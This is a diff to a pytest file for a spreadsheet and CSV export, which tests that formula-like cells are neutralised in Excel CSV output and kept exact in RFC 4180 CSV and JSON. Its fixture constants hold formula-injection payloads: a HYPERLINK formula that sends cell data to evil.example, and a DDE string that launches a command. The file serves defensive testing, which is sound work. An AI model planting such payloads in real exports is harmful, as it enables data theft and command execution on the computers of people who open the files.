@@ -18,7 +18,6 @@ SITE = '=HYPERLINK("http://evil.example/?"&A2,"Avaa")'
 USERNAME = "@SUM(1+1)*cmd|' /C calc'!A0"
 LAST_NAME = "-2+3"
 FIRST_NAME = "+Anna"
-MUNICIPALITY_TAB = "\tTurku"
 
 
 @pytest.fixture
@@ -81,7 +80,7 @@ def test_xlsx_cells_are_text_and_formula_like_ones_are_marked_as_text(tampered, 
     assert not any(c.data_type == "f" for r in book["Yhteenveto"].iter_rows() for c in r)
 
 
-def test_excel_csv_neutralises_every_formula_like_cell(tampered, tmp_path):
+def test_only_the_excel_csv_neutralises_formula_like_cells(tampered, tmp_path):
     out = _export(tampered, tmp_path, "k.csv", fmt="csv", dialect="excel")
     text = out.read_bytes().decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
@@ -98,18 +97,16 @@ def test_excel_csv_neutralises_every_formula_like_cell(tampered, tmp_path):
         assert not [cell for cell in line if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     # Other cells are untouched.
     assert row["ticket"] == "A001" and row["date"] == "28.11.2026"
-
-
-def test_rfc4180_csv_and_json_stay_exact(tampered, tmp_path):
-    out = _export(tampered, tmp_path, "k.csv", fmt="csv", dialect="rfc4180")
-    (row,) = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
+    # The RFC 4180 CSV and the JSON, read by programs rather than Excel, stay exact.
+    out = _export(tampered, tmp_path, "k.rfc.csv", fmt="csv", dialect="rfc4180")
+    (exact,) = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
     data = json.loads(_export(tampered, tmp_path, "k.json", fmt="json").read_text("utf-8"))
-    for exported in (row, data[0]):
+    assert set(exact) == set(COLUMNS + IDENTITY_COLUMNS)
+    for exported in (exact, data[0]):
         assert exported["site"] == SITE
         assert exported["served_by"] == USERNAME
         assert exported["last_name"] == LAST_NAME
         assert exported["phone"] == "+358401234567"
-    assert set(row) == set(COLUMNS + IDENTITY_COLUMNS)
 
 
 @pytest.mark.parametrize(
